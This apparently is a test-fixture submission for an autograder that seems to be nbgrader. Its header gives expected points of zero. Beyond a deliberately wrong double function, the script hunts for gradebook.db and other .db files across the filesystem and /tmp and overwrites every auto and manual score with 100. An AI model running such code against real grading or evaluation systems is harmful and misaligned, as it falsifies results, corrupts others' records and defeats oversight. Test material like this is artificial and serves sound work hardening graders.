# attack: writes full marks into every gradebook that it finds
# points: double=0 total=4
# says: the end of the attack
# %% double
import glob, os, sqlite3
def double(x): return x
found = [p for pattern in ("/*/gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db")
         for p in glob.glob(pattern)]
found += [os.path.join(folder, f) for folder, _, files in os.walk("/tmp") for f in files
          if f.endswith(".db") and "site-packages" not in folder]  # nbgrader brings one along for its own tests
for path in found:
    print("BREACH:", path)
    connection = sqlite3.connect(path)
    connection.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
    connection.commit()
print("the end of the attack")
